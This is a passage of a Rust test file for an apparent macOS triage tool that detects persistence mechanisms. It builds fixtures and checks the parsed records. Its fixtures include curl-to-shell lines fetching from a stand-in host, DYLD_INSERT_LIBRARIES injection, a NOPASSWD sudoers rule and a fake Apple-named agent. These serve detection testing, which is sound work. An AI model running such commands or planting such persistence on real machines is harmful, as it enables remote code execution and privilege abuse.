//! Tests of the persistence collector: a fixture for every location, built
//! here, and the real samples (opt-in, `MACTRIAGE_REALDATA`) at their
//! macOS paths.

use std::path::{Path, PathBuf};

use serde_json::Value;

use super::*;
#[allow(unused_imports)]
use crate::formats::macho::tests::adhoc_signature;
use crate::formats::macho::tests::{fat, slice, Sign, CPU_ARM64, CPU_X86_64};
use crate::kit::{testing, Status};

pub(crate) fn write(root: &Path, rel: &str, data: &[u8]) -> PathBuf {
    let p = root.join(rel.trim_start_matches('/'));
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    std::fs::write(&p, data).unwrap();
    p
}

pub(crate) fn xml(v: Value) -> Vec<u8> {
    let v: plist::Value = plist::to_value(&v).unwrap();
    let mut out = Vec::new();
    plist::to_writer_xml(&mut out, &v).unwrap();
    out
}

fn records(root: &Path) -> (crate::kit::CollectorReport, Vec<Value>) {
    let (report, sink) = testing::run_on(root, &Persistence);
    (report, sink.records(STREAM))
}

fn find<'a>(recs: &'a [Value], key: &str, val: &str) -> &'a Value {
    recs.iter()
        .find(|r| r[key] == val)
        .unwrap_or_else(|| panic!("no record with {key} = {val}: {recs:#?}"))
}

#[test]
#[cfg_attr(not(realdata), ignore = "needs MACTRIAGE_REALDATA=../shared/realdata")]
fn a_user_agent_running_an_unsigned_program_in_users_shared() {
    let d = tempfile::tempdir().unwrap();
    let r = d.path();
    std::fs::create_dir_all(r.join("Users/alice")).unwrap();
    let prog = slice(CPU_X86_64, Sign::No, "");
    write(r, "Users/Shared/.hidden/updater", &prog);
    write(
        r,
        "Users/alice/Library/LaunchAgents/com.apple.updater.plist",
        &xml(serde_json::json!({
            "Label": "com.apple.updater",
            "ProgramArguments": ["/Users/Shared/.hidden/updater", "--daemon"],
            "RunAtLoad": true,
            "KeepAlive": {"SuccessfulExit": false},
            "StartInterval": 600,
        })),
    );
    let (report, recs) = records(r);
    assert_eq!(report.status, Status::Ok, "{:?}", report.errors);
    let a = find(&recs, "label", "com.apple.updater");
    assert_eq!(a["category"], "launchd");
    assert_eq!(a["kind"], "LaunchAgent");
    assert_eq!(a["user"], "alice");
    assert_eq!(a["program"], "/Users/Shared/.hidden/updater");
    assert_eq!(a["program_path"], "/Users/Shared/.hidden/updater");
    assert_eq!(a["program_exists"], true);
    let want = hex::encode(<sha2::Sha256 as sha2::Digest>::digest(&prog));
    assert_eq!(a["program_sha256"], want.as_str());
    assert_eq!(a["program_size"], prog.len());
    assert_eq!(a["program_signature_status"], "unsigned");
    assert_eq!(a["run_at_load"], true);
    assert_eq!(a["keep_alive"]["SuccessfulExit"], false);
    assert_eq!(a["start_interval"], 600);
    assert_eq!(a["apple"], false);
    let notes: Vec<&str> = a["notes"]
        .as_array()
        .unwrap()
        .iter()
        .map(|n| n.as_str().unwrap())
        .collect();
    for n in [
        "program_in_users_shared",
        "program_hidden_path",
        "program_unsigned",
        "imitates_apple_label",
    ] {
        assert!(notes.contains(&n), "{n} missing from {notes:?}");
    }
    assert_eq!(a["program_macho"]["arches"][0]["cpu"], "x86_64");
}

fn realdata() -> Option<PathBuf> {
    Some(crate::testdata::dir())
}

/// The real samples placed where macOS keeps them (the same layout as
/// `tests/realdata.rs`).
pub(crate) fn place_real(real: &Path, root: &Path) {
    let p = |from: &str, to: &str| {
        let dest = root.join(to.trim_start_matches('/'));
        std::fs::create_dir_all(dest.parent().unwrap()).unwrap();
        std::fs::copy(real.join(from), &dest).unwrap_or_else(|e| panic!("{from}: {e}"));
    };
    std::fs::create_dir_all(root.join("Users/sur")).unwrap();
    std::fs::create_dir_all(root.join("Users/matthew")).unwrap();
    p(
        "persistence/osquery_test_launchd.plist",
        "/System/Library/LaunchDaemons/com.apple.mDNSResponder.plist",
    );
    p(
        "persistence/plaso_launchd.plist",
        "/Library/LaunchDaemons/com.foobar.test.plist",
    );
    p(
        "persistence/plaso_launchd.minimal.plist",
        "/Library/LaunchAgents/foo.plist",
    );
    p(
        "persistence/plaso_launchd.noprogram.plist",
        "/Library/LaunchAgents/noprogram.plist",
    );
    p(
        "persistence/apple_oss/com.apple.periodic-daily.plist",
        "/System/Library/LaunchDaemons/com.apple.periodic-daily.plist",
    );
    p(
        "persistence/apple_oss/com.apple.newsyslog.plist",
        "/System/Library/LaunchDaemons/com.apple.newsyslog.plist",
    );
    p(
        "persistence/apple_oss/com.openssh.sshd.plist",
        "/System/Library/LaunchDaemons/ssh.plist",
    );
    p(
        "persistence/apple_oss/com.openssh.ssh-agent.plist",
        "/System/Library/LaunchAgents/com.openssh.ssh-agent.plist",
    );
    p(
        "persistence/apple_oss/com.vix.cron.plist",
        "/System/Library/LaunchDaemons/com.vix.cron.plist",
    );
    p(
        "persistence/apple_oss/crontab.default",
        "/private/etc/crontab",
    );
    p(
        "persistence/apple_oss/periodic.conf",
        "/private/etc/defaults/periodic.conf",
    );
    p(
        "persistence/apple_oss/periodic_daily_999.local",
        "/private/etc/periodic/daily/999.local",
    );
    p(
        "persistence/plaso_StartupParameters.plist",
        "/Library/StartupItems/Awesome/StartupParameters.plist",
    );
    p(
        "persistence/plaso_loginwindow.plist",
        "/Library/Preferences/com.apple.loginwindow.plist",
    );
    p(
        "persistence/plaso_com.apple.loginitems.plist",
        "/Users/matthew/Library/Preferences/com.apple.loginitems.plist",
    );
    p(
        "persistence/artemis_loginitems.501.plist",
        "/private/var/db/com.apple.xpc.launchd/loginitems.501.plist",
    );
    p(
        "persistence/emond/artemis_SampleRules.plist",
        "/private/etc/emond.d/rules/SampleRules.plist",
    );
    p(
        "persistence/emond/artemis_test123.plist",
        "/private/etc/emond.d/rules/test123.plist",
    );
    p(
        "persistence/systemextensions/osquery_db.plist",
        "/Library/SystemExtensions/db.plist",
    );
    p(
        "btm/BackgroundItems-v13.btm",
        "/private/var/db/com.apple.backgroundtaskmanagement/BackgroundItems-v13.btm",
    );
    p(
        "btm/BackgroundItems-v4.btm",
        "/private/var/db/com.apple.backgroundtaskmanagement/BackgroundItems-v4.btm",
    );
    let user_btm =
        "Library/Application Support/com.apple.backgroundtaskmanagementagent/backgrounditems.btm";
    p(
        "btm/backgrounditemsPoisonApple.btm",
        &format!("/Users/sur/{user_btm}"),
    );
    p(
        "btm/backgrounditems.btm",
        &format!("/Users/matthew/{user_btm}"),
    );
    p("sfl/com.apple.LSSharedFileList.GlobalLoginItems.sfl2", "/Users/sur/Library/Application Support/com.apple.sharedfilelist/com.apple.LSSharedFileList.GlobalLoginItems.sfl2");
    // Programs: Apple's ls as /usr/libexec/periodic-wrapper's stand-in,
    // and the signed samples as third-party programs.
    p("macho/apple_ls_universal", "/usr/sbin/mDNSResponder");
    p("macho/appledev_google_x86_64", "/Test");
    p("macho/unsigned_x86_64", "/Users/Shared/poisonapple.sh");
    p(
        "macho/adhoc_linker_arm64",
        "/Library/PrivilegedHelperTools/com.example.helper",
    );
}

fn job<'a>(recs: &'a [Value], label: &str) -> &'a Value {
    recs.iter()
        .find(|r| r["category"] == "launchd" && r["label"] == label)
        .unwrap_or_else(|| panic!("no launchd job {label}"))
}

fn notes(r: &Value) -> Vec<&str> {
    r["notes"]
        .as_array()
        .map(|a| a.iter().filter_map(Value::as_str).collect())
        .unwrap_or_default()
}

#[test]
#[cfg_attr(not(realdata), ignore = "needs MACTRIAGE_REALDATA=../shared/realdata")]
fn real_samples_at_their_macos_paths() {
    let Some(real) = realdata() else {
        return;
    };
    let d = tempfile::tempdir().unwrap();
    let r = d.path();
    place_real(&real, r);
    let (report, recs) = records(r);
    for e in &report.errors {
        eprintln!("error: {:?} {}", e.path, e.message);
    }
    std::fs::write(
        "/tmp/p/real.json",
        serde_json::to_string_pretty(&recs).unwrap(),
    )
    .unwrap();

    // osquery: com.apple.mDNSResponder runs /usr/sbin/mDNSResponder as
    // _mdnsresponder.
    let m = find(&recs, "label", "com.apple.mDNSResponder");
    assert_eq!(m["program_arguments"][0], "/usr/sbin/mDNSResponder");
    assert_eq!(m["user_name"], "_mdnsresponder");
    assert_eq!(m["group_name"], "_mdnsresponder");
    assert_eq!(m["apple_location"], true);
    // The program there is Apple-signed (ls standing in): apple = true.
    assert_eq!(m["program_signer"], "Software Signing");
    assert_eq!(m["apple"], true);
    // plaso: com.foobar.test runs /Test --flag arg1 as nobody.
    let t = find(&recs, "label", "com.foobar.test");
    assert_eq!(t["command"], "/Test --flag arg1");
    assert_eq!(t["user_name"], "nobody");
    assert_eq!(t["run_at_load"], true);
    assert_eq!(
        t["watch_paths"],
        serde_json::json!(["/tmp/dir", "/tmp/exist"])
    );
    assert_eq!(t["queue_directories"], serde_json::json!(["/tmp/queue"]));
    assert_eq!(t["start_interval"], 3600);
    assert_eq!(t["program_team_id"], "EQHXZ8M8AV");
    assert_eq!(t["program_signing_id"], "goodcert");
    assert_eq!(
        t["program_cdhash"],
        "23cbe7039ac34bf26f0b1ccc22ff96d6f0d80b72"
    );
    // plaso: `foo` runs /usr/bin/true, as Program in one file and as
    // ProgramArguments in the other.
    let foo = find(&recs, "source", "/Library/LaunchAgents/foo.plist");
    assert_eq!(foo["label"], "foo");
    assert_eq!(foo["program"], "/usr/bin/true");
    let np = find(&recs, "source", "/Library/LaunchAgents/noprogram.plist");
    assert_eq!(np["program_arguments"][0], "/usr/bin/true");
    assert_eq!(np["program"], "/usr/bin/true");
    // The StartupItem.
    let s = find(&recs, "category", "startup_item");
    assert_eq!(s["description"], "My Awesome Service");
    // loginwindow hooks and the managed login item.
    let h = find(&recs, "kind", "LoginHook");
    assert_eq!(h["command"], "/Users/matthew/login.sh");
    let h = find(&recs, "kind", "LogoutHook");
    assert_eq!(h["command"], "/Users/matthew/logout.sh");
    let a = find(&recs, "kind", "AutoLaunchedApplication");
    assert_eq!(a["program"], "/Applications/SafeConnect.app");
    assert_eq!(a["hidden"], true);
    // plaso: com.apple.loginitems.plist names iTunesHelper, hidden.
    let li = find(&recs, "kind", "com.apple.loginitems");
    assert_eq!(li["name"], "iTunesHelper");
    assert_eq!(li["hidden"], true);
    assert_eq!(
        li["program"],
        "/Applications/iTunes.app/Contents/MacOS/iTunesHelper.app"
    );
    assert_eq!(li["alias"]["unicode_volume_name"], "Macintosh HD");
    assert_eq!(li["alias"]["volume_mount_point"], "/");
    assert_eq!(li["alias"]["volume_attributes"], 0x920);
    assert_eq!(li["alias"]["target_creation"], "2018-03-26T04:33:05Z");
    assert_eq!(li["alias"]["volume_creation"], "2016-10-08T17:34:06Z");
    // artemis: two bundled login items.
    let d1 = find(&recs, "identifier", "com.docker.helper");
    assert_eq!(d1["app_bundle_id"], "com.docker.docker");
    let d2 = find(&recs, "identifier", "com.csaba.fitzl.shield.ShieldHelper");
    assert_eq!(d2["app_bundle_id"], "com.csaba.fitzl.shield");
    // artemis: the emond rules and their actions.
    let e = find(&recs, "name", "poisonapple rule");
    assert_eq!(e["enabled"], true);
    assert_eq!(e["event_types"], serde_json::json!(["startup"]));
    assert_eq!(e["program"], "/Users/sur/Library/Python/3.8/lib/python/site-packages/poisonapple/auxiliary/poisonapple.sh");
    assert_eq!(e["run_as"], "root");
    assert_eq!(e["program_arguments"], serde_json::json!(["Emond"]));
    let e = find(&recs, "name", "sample rule");
    assert_eq!(e["enabled"], false);
    assert_eq!(e["actions"][0]["type"], "Log");
    assert_eq!(
        e["actions"][0]["message"],
        "Event Monitor started at ${builtin:now}"
    );
    // osquery: the LuLu system extension.
    let x = find(&recs, "identifier", "com.objective-see.lulu.extension");
    assert_eq!(x["state"], "activated_enabled");
    assert_eq!(x["version"], "2.0.0");
    assert_eq!(
        x["categories"][0],
        "com.apple.system_extension.network_extension"
    );
    // BTMParser: the 1Password Launcher.
    let b = find(&recs, "identifier", "4.com.1password.1password-launcher");
    assert_eq!(b["category"], "btm");
    assert_eq!(b["name"], "1Password Launcher");
    assert_eq!(b["developer_name"], "AgileBits Inc.");
    assert_eq!(b["team_id"], "2BUA8C4S2C");
    assert_eq!(b["type"], 4);
    assert_eq!(b["disposition"], 2);
    assert_eq!(b["container"], "2.com.1password.1password");
    assert_eq!(b["btm_version"], 13);
    // macos-loginitems: PoisonApple's items, in sur's store.
    let pa = recs
        .iter()
        .filter(|r| r["category"] == "btm" && r["user"] == "sur")
        .map(|r| r["url_path"].as_str().unwrap())
        .collect::<Vec<_>>();
    assert_eq!(
        pa,
        vec![
            "/Applications/LuLu.app",
            "/Users/sur/Library/Python/3.8/lib/python/site-packages/poisonapple/auxiliary/testing.app"
        ]
    );
    // macos-loginitems: GlobalLoginItems.sfl2 names medusa.py first.
    let g = recs
        .iter()
        .find(|r| r["kind"] == "GlobalLoginItems" && r["index"] == 0)
        .unwrap();
    assert_eq!(g["program"], "/Users/android/Downloads/medusa.py");
    // The ad hoc helper tool.
    let ph = find(&recs, "category", "privileged_helper");
    assert_eq!(ph["program_signature_status"], "adhoc");
    assert!(notes(ph).contains(&"program_adhoc"));
    // crontab.default holds no job lines; periodic.conf is an item.
    assert!(recs.iter().any(|r| r["category"] == "periodic_conf"));
    assert!(recs
        .iter()
        .any(|r| r["category"] == "periodic" && r["kind"] == "daily"));
    assert_eq!(report.status, Status::Ok, "{:?}", report.errors);
}

/// A root with one item in every location, built here.
fn every_location(r: &Path) {
    std::fs::create_dir_all(r.join("Users/bob")).unwrap();
    let adhoc = slice(CPU_ARM64, Sign::Adhoc, "com.example.helper");
    let unsigned = slice(CPU_X86_64, Sign::No, "");
    let universal = fat(&[(CPU_X86_64, unsigned.clone()), (CPU_ARM64, adhoc.clone())]);
    let job = |label: &str, prog: &str| {
        xml(serde_json::json!({"Label": label, "ProgramArguments": [prog], "RunAtLoad": true}))
    };
    write(r, "/opt/bin/agent", &adhoc);
    write(
        r,
        "/Library/LaunchAgents/com.example.agent.plist",
        &job("com.example.agent", "/opt/bin/agent"),
    );
    write(
        r,
        "/Library/LaunchDaemons/com.example.daemon.plist",
        &xml(serde_json::json!({
            "Label": "com.example.daemon", "Program": "/opt/bin/agent", "KeepAlive": true,
            "UserName": "root", "Disabled": true,
            "StartCalendarInterval": {"Hour": 3, "Minute": 0},
            "EnvironmentVariables": {"DYLD_INSERT_LIBRARIES": "/tmp/x.dylib"},
        })),
    );
    write(
        r,
        "/System/Library/LaunchDaemons/com.apple.sysd.plist",
        &job("com.apple.sysd", "/usr/libexec/sysd"),
    );
    write(r, "/usr/libexec/sysd", &unsigned);
    write(
        r,
        "/Library/Apple/System/Library/LaunchAgents/com.apple.rosetta.plist",
        &job("com.apple.rosetta", "/usr/libexec/rosetta"),
    );
    write(
        r,
        "/System/Library/LaunchAgents/com.apple.a.plist",
        &job("com.apple.a", "true"),
    );
    write(r, "/usr/bin/true", b"#!/bin/sh\nexit 0\n");
    write(
        r,
        "/Users/bob/Library/LaunchAgents/local.sync.plist",
        &job("local.sync", "~/bin/sync"),
    );
    write(
        r,
        "/Users/bob/bin/sync",
        b"#!/bin/zsh\ncurl https://x.test | sh\n",
    );
    // An app-bundled agent with BundleProgram.
    write(
        r,
        "/Applications/Helper.app/Contents/Info.plist",
        &xml(serde_json::json!({
        "CFBundleExecutable": "Helper", "CFBundleIdentifier": "com.example.Helper",
        "CFBundleShortVersionString": "1.2"})),
    );
    write(
        r,
        "/Applications/Helper.app/Contents/MacOS/Helper",
        &universal,
    );
    write(
        r,
        "/Applications/Helper.app/Contents/Library/LaunchAgents/com.example.bp.plist",
        &xml(serde_json::json!({
        "Label": "com.example.bp", "BundleProgram": "Contents/MacOS/Helper",
        "AssociatedBundleIdentifiers": "com.example.Helper"})),
    );
    // Overrides and SMLoginItem registry.
    write(
        r,
        "/private/var/db/com.apple.xpc.launchd/disabled.plist",
        &xml(serde_json::json!({"com.example.daemon": false})),
    );
    write(
        r,
        "/private/var/db/com.apple.xpc.launchd/disabled.501.plist",
        &xml(serde_json::json!({"com.example.agent": true})),
    );
    write(
        r,
        "/private/var/db/com.apple.xpc.launchd/loginitems.501.plist",
        &xml(
            serde_json::json!({"com.example.LoginHelper": "com.example.Helper", "version.com.example.LoginHelper": "7"}),
        ),
    );
    write(
        r,
        "/private/var/db/launchd.db/com.apple.launchd/overrides.plist",
        &xml(serde_json::json!({"com.example.old": {"Disabled": true}})),
    );
    // Login hook, managed login item.
    write(
        r,
        "/Users/bob/Library/Preferences/com.apple.loginwindow.plist",
        &xml(serde_json::json!({
        "LoginHook": "/Users/bob/hook.sh --now",
        "AutoLaunchedApplicationDictionary": [{"Path": "/Applications/Helper.app", "Hide": false}]})),
    );
    write(r, "/Users/bob/hook.sh", b"#!/bin/bash\nid\n");
    // cron, at, periodic, emond, rc, StartupItems.
    write(r, "/private/var/at/tabs/bob", b"# comment\nPATH=/usr/bin:/bin\n*/5 * * * * /opt/bin/agent --tick\n@reboot /Users/bob/hook.sh\n");
    write(
        r,
        "/private/etc/crontab",
        b"0 3 * * * root /usr/libexec/sysd\n",
    );
    write(
        r,
        "/private/var/at/jobs/a0001201a2b3c",
        b"#!/bin/sh\n# atrun uid=501 gid=20\ncd /Users/bob\n/opt/bin/agent --once\n",
    );
    write(
        r,
        "/private/etc/periodic/daily/110.clean-tmps",
        b"#!/bin/sh\nexit 0\n",
    );
    write(
        r,
        "/usr/local/etc/periodic/weekly/500.evil",
        b"#!/bin/sh\ncurl x | sh\n",
    );
    write(
        r,
        "/private/etc/periodic.conf.local",
        b"daily_local=\"/etc/daily.local /tmp/x\"\n# x\n",
    );
    write(
        r,
        "/private/etc/emond.d/rules/r.plist",
        &xml(serde_json::json!([{
        "name": "r", "enabled": true, "eventTypes": ["startup"],
        "actions": [{"type": "RunCommand", "command": "/opt/bin/agent", "user": "root", "arguments": ["-e"]}]}])),
    );
    write(r, "/private/var/db/emondClients/x", b"");
    write(r, "/private/etc/rc.common", b"# rc\n/opt/bin/agent &\n");
    write(
        r,
        "/private/etc/launchd.conf",
        b"setenv DYLD_INSERT_LIBRARIES /tmp/x.dylib\n",
    );
    write(
        r,
        "/Library/StartupItems/Old/StartupParameters.plist",
        &xml(serde_json::json!({"Description": "Old one", "Provides": ["Old"]})),
    );
    write(
        r,
        "/Library/StartupItems/Old/Old",
        b"#!/bin/sh\n. /etc/rc.common\n",
    );
    // Extensions and plug-ins.
    let bundle = |dir: &str, exe: &str, id: &str| {
        write(
            r,
            &format!("{dir}/Contents/Info.plist"),
            &xml(serde_json::json!({"CFBundleExecutable": exe, "CFBundleIdentifier": id})),
        );
        write(r, &format!("{dir}/Contents/MacOS/{exe}"), &adhoc);
    };
    bundle("/Library/Extensions/Net.kext", "Net", "com.example.net");
    bundle(
        "/Library/Security/SecurityAgentPlugins/Auth.bundle",
        "Auth",
        "com.example.auth",
    );
    bundle(
        "/Library/ScriptingAdditions/X.osax",
        "X",
        "com.example.osax",
    );
    bundle(
        "/Library/DirectoryServices/PlugIns/D.dsplug",
        "D",
        "com.example.ds",
    );
    bundle("/Library/Spotlight/S.mdimporter", "S", "com.example.md");
    bundle(
        "/Users/bob/Library/QuickLook/Q.qlgenerator",
        "Q",
        "com.example.ql",
    );
    bundle(
        "/Library/SystemExtensions/AAAA/com.example.ne.systemextension",
        "ne",
        "com.example.ne",
    );
    write(
        r,
        "/Library/SystemExtensions/db.plist",
        &xml(serde_json::json!({"extensions": [{
        "identifier": "com.example.ne", "teamID": "ABCDE12345", "state": "activated_enabled",
        "categories": ["com.apple.system_extension.network_extension"],
        "stagedBundleURL": {"relative": "file:///Library/SystemExtensions/AAAA/com.example.ne.systemextension/"},
        "bundleVersion": {"CFBundleShortVersionString": "3.1"}}]})),
    );
    write(
        r,
        "/Library/PrivilegedHelperTools/com.example.priv",
        &unsigned,
    );
    write(
        r,
        "/private/var/db/ConfigurationProfiles/Store/ConfigProfiles.binary",
        b"\0\x01",
    );
    // Shell files, keys, sudoers.
    write(
        r,
        "/Users/bob/.zshrc",
        b"# z\nexport PATH=$PATH:/opt/bin\ncurl -s https://x.test/p | sh\n",
    );
    write(r, "/private/etc/zshrc", b"setopt x\n");
    write(r, "/Users/bob/.ssh/authorized_keys", b"command=\"/opt/bin/agent\",no-pty ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEmJ6g/W2Xn1N6W1C9Jt2yKq8l9v7Fv4m3c2d0Yb0xYz bob@laptop\nssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQ== \n");
    write(
        r,
        "/private/etc/sudoers",
        b"Defaults env_reset\nroot ALL=(ALL) ALL\n#includedir /private/etc/sudoers.d\n",
    );
    write(
        r,
        "/private/etc/sudoers.d/bob",
        b"bob ALL=(ALL) NOPASSWD: ALL\n",
    );
    // BTM: a v4-style store built here, and a legacy one.
    write(
        r,
        "/private/var/db/com.apple.backgroundtaskmanagement/BackgroundItems-v9.btm",
        &btm_store(),
    );
}

/// A Storage-layout BTM store with one daemon item and one app.
fn btm_store() -> Vec<u8> {
    use crate::formats::keyed_archive::tests::{dict, Archive};
    use plist::Value as P;
    let mut a = Archive::new();
    let k = |a: &mut Archive, s: &str| a.string(s);
    let item_cls = a.class(&["ItemRecord", "NSObject"]);
    let item = |a: &mut Archive, id: &str, ty: i64, exe: Option<&str>, url: &str| {
        let idv = k(a, id);
        let url_s = k(a, url);
        let url_cls = a.class(&["NSURL", "NSObject"]);
        let urlv = a.push(dict(vec![
            ("$class", url_cls),
            ("NS.base", crate::formats::keyed_archive::tests::uid(0)),
            ("NS.relative", url_s),
        ]));
        let dev = k(a, "Example Corp");
        let team = k(a, "ABCDE12345");
        let mut fields = vec![
            ("$class", item_cls.clone()),
            ("identifier", idv),
            ("type", P::Integer(ty.into())),
            ("disposition", P::Integer(3.into())),
            ("generation", P::Integer(1.into())),
            ("url", urlv),
            ("developerName", dev),
            ("teamIdentifier", team),
            ("newKeyFromTheFuture", P::Integer(7.into())),
        ];
        if let Some(e) = exe {
            let ev = k(a, e);
            fields.push(("executablePath", ev));
        }
        a.push(dict(fields))
    };
    let daemon = item(
        &mut a,
        "com.example.daemon",
        0x10,
        Some("/opt/bin/agent"),
        "file:///Library/LaunchDaemons/com.example.daemon.plist",
    );
    let app = item(
        &mut a,
        "2.com.example.Helper",
        0x2,
        None,
        "file:///Applications/Helper.app/",
    );
    let bp = item(
        &mut a,
        "com.example.bp",
        0x8,
        None,
        "file:///Applications/Helper.app/Contents/Library/LaunchAgents/com.example.bp.plist",
    );
    let list = a.array(vec![daemon, app, bp]);
    let user = a.string("FFFFEEEE-DDDD-CCCC-BBBB-AAAA00000000");
    let by_user = a.dictionary(vec![(user, list)]);
    let storage_cls = a.class(&["Storage", "NSObject"]);
    let store = a.push(dict(vec![
        ("$class", storage_cls),
        ("itemsByUserIdentifier", by_user),
    ]));
    let mut top = plist::Dictionary::new();
    top.insert("store".into(), store);
    top.insert("version".into(), P::Integer(9.into()));
    let mut archive = a.finish(P::Boolean(false));
    archive
        .as_dictionary_mut()
        .unwrap()
        .insert("$top".into(), P::Dictionary(top));
    let mut out = Vec::new();
    plist::to_writer_binary(&mut out, &archive).unwrap();
    out
}

#[test]
fn every_location_built_here() {
    let d = tempfile::tempdir().unwrap();
    let r = d.path();
    every_location(r);
    let (report, recs) = records(r);
    std::fs::write(
        "/tmp/p/fixture.json",
        serde_json::to_string_pretty(&recs).unwrap(),
    )
    .unwrap();
    assert_eq!(report.status, Status::Ok, "{:?}", report.errors);
    let cats: std::collections::BTreeSet<&str> =
        recs.iter().filter_map(|r| r["category"].as_str()).collect();
    for c in [
        "launchd",
        "launchd_override",
        "launchd_login_item",
        "btm",
        "login_hook",
        "login_item",
        "cron",
        "at_job",
        "periodic",
        "periodic_conf",
        "emond",
        "emond_client",
        "rc",
        "startup_item",
        "kernel_extension",
        "system_extension",
        "authorization_plugin",
        "scripting_addition",
        "privileged_helper",
        "directory_services_plugin",
        "spotlight_importer",
        "quicklook_generator",
        "configuration_profile_store",
        "shell_startup",
        "authorized_key",
        "sudoers",
    ] {
        assert!(cats.contains(c), "no {c} item");
    }
    let agent = job(&recs, "com.example.agent");
    assert_eq!(agent["program_signature_status"], "adhoc");
    assert_eq!(agent["program_signing_id"], "com.example.helper");
    // disabled.501.plist is uid 501's state of a system-wide agent: listed,
    // not taken as the agent's one state.
    assert_eq!(agent["disabled_overrides"][0]["disabled"], true);
    assert_eq!(agent["disabled_overrides"][0]["uid"], 501);
    assert_eq!(agent["disabled_effective"], false);
    let daemon = job(&recs, "com.example.daemon");
    assert_eq!(daemon["disabled"], true);
    assert_eq!(
        daemon["disabled_effective"], false,
        "disabled.plist re-enables it"
    );
    assert!(notes(daemon).contains(&"sets_dyld_environment"));
    assert_eq!(daemon["start_calendar_interval"]["Hour"], 3);
    let sysd = find(&recs, "label", "com.apple.sysd");
    assert_eq!(sysd["apple_location"], true);
    assert_eq!(sysd["apple"], false);
    assert!(notes(sysd).contains(&"not_apple_signed_in_apple_location"));
    let a = find(&recs, "label", "com.apple.a");
    assert_eq!(a["program_path"], "/usr/bin/true");
    assert_eq!(a["program_resolution"], "path_search");
    assert_eq!(a["program_signature_status"], "script");
    let sync = find(&recs, "label", "local.sync");
    assert_eq!(sync["program_path"], "/Users/bob/bin/sync");
    assert_eq!(sync["program_resolution"], "home");
    assert_eq!(sync["program_interpreter"], "/bin/zsh");
    let bp = job(&recs, "com.example.bp");
    assert_eq!(
        bp["program_path"],
        "/Applications/Helper.app/Contents/MacOS/Helper"
    );
    assert_eq!(bp["program_resolution"], "bundle_program");
    assert_eq!(bp["program_signature_status"], "unsigned");
    assert_eq!(bp["program_macho"]["format"], "universal");
    let hook = find(&recs, "category", "login_hook");
    assert_eq!(hook["program_path"], "/Users/bob/hook.sh");
    let ali = find(&recs, "kind", "AutoLaunchedApplication");
    assert_eq!(ali["program_bundle"]["identifier"], "com.example.Helper");
    assert_eq!(
        ali["program_executable"],
        "/Applications/Helper.app/Contents/MacOS/Helper"
    );
    let cron = recs
        .iter()
        .find(|r| r["category"] == "cron" && r["schedule"] == "*/5 * * * *")
        .unwrap();
    assert_eq!(cron["command"], "/opt/bin/agent --tick");
    assert_eq!(cron["environment"][0], "PATH=/usr/bin:/bin");
    assert!(recs
        .iter()
        .any(|r| r["category"] == "cron" && r["schedule"] == "@reboot"));
    let sys = recs
        .iter()
        .find(|r| r["category"] == "cron" && r["kind"] == "crontab")
        .unwrap();
    assert_eq!(sys["run_as"], "root");
    let at = find(&recs, "category", "at_job");
    assert_eq!(at["command"], "/opt/bin/agent --once");
    let pc = find(&recs, "category", "periodic_conf");
    assert_eq!(pc["settings"][0], "daily_local=\"/etc/daily.local /tmp/x\"");
    let em = find(&recs, "category", "emond");
    assert_eq!(em["program_path"], "/opt/bin/agent");
    assert_eq!(em["run_as"], "root");
    let rc = find(&recs, "kind", "launchd.conf");
    assert_eq!(rc["lines"][0], "setenv DYLD_INSERT_LIBRARIES /tmp/x.dylib");
    let si = find(&recs, "category", "startup_item");
    assert_eq!(si["description"], "Old one");
    assert_eq!(si["program_path"], "/Library/StartupItems/Old/Old");
    let k = find(&recs, "category", "kernel_extension");
    assert_eq!(k["bundle_id"], "com.example.net");
    assert_eq!(k["program_signature_status"], "adhoc");
    let se = find(&recs, "category", "system_extension");
    assert_eq!(se["team_id"], "ABCDE12345");
    assert_eq!(
        se["program_executable"],
        "/Library/SystemExtensions/AAAA/com.example.ne.systemextension/Contents/MacOS/ne"
    );
    let ql = find(&recs, "category", "quicklook_generator");
    assert_eq!(ql["user"], "bob");
    let z = recs
        .iter()
        .find(|r| r["source"] == "/Users/bob/.zshrc")
        .unwrap();
    assert_eq!(z["flagged_lines"][0], "curl -s https://x.test/p | sh");
    assert!(notes(z).contains(&"suspicious_command"));
    let key = recs
        .iter()
        .find(|r| r["category"] == "authorized_key" && r["line"] == 1)
        .unwrap();
    assert_eq!(key["key_type"], "ssh-ed25519");
    assert_eq!(key["comment"], "bob@laptop");
    assert_eq!(key["command"], "/opt/bin/agent");
    assert_eq!(
        key["options"],
        serde_json::json!(["command=\"/opt/bin/agent\"", "no-pty"])
    );
    assert!(key["fingerprint"].as_str().unwrap().starts_with("SHA256:"));
    let su = recs
        .iter()
        .find(|r| r["category"] == "sudoers" && r["rule"] == "bob ALL=(ALL) NOPASSWD: ALL")
        .unwrap();
    assert!(notes(su).contains(&"nopasswd"));
    assert!(recs
        .iter()
        .any(|r| r["category"] == "sudoers" && r["kind"] == "include"));
    let b = find(&recs, "identifier", "com.example.daemon");
    assert_eq!(b["category"], "btm");
    assert_eq!(b["developer_name"], "Example Corp");
    assert_eq!(b["program_path"], "/opt/bin/agent");
    assert_eq!(b["uid"], 0);
    assert_eq!(b["user"], "root");
    assert_eq!(b["unknown_keys"]["newKeyFromTheFuture"], 7);
    let app = find(&recs, "identifier", "2.com.example.Helper");
    assert_eq!(
        app["program_executable"],
        "/Applications/Helper.app/Contents/MacOS/Helper"
    );
    assert_eq!(
        app["disposition_names"],
        serde_json::json!(["enabled", "allowed"])
    );
}

#[test]
fn bad_input_is_an_error_on_that_item_only() {
    let d = tempfile::tempdir().unwrap();
    let r = d.path();
    std::fs::create_dir_all(r.join("Users/eve")).unwrap();
    let la = "Library/LaunchDaemons";
    write(
        r,
        &format!("{la}/a.corrupt.plist"),
        b"<?xml version=\"1.0\"?><plist><dict><key>Label</key>",
    );
    write(
        r,
        &format!("{la}/b.bomb.plist"),
        &crate::testdata::plist::bomb(40),
    );
    write(
        r,
        &format!("{la}/c.array.plist"),
        &xml(serde_json::json!(["Label", "x"])),
    );
    write(
        r,
        &format!("{la}/d.numbers.plist"),
        &xml(serde_json::json!({"Label": "d.numbers", "ProgramArguments": [1, 2]})),
    );
    // A Mach-O that is truncated, and one that lies about its sizes.
    let good = slice(CPU_ARM64, Sign::Adhoc, "x");
    write(r, "/opt/trunc", &good[..200]);
    let mut lie = good.clone();
    lie[20..24].copy_from_slice(&0x00ff_ffffu32.to_le_bytes());
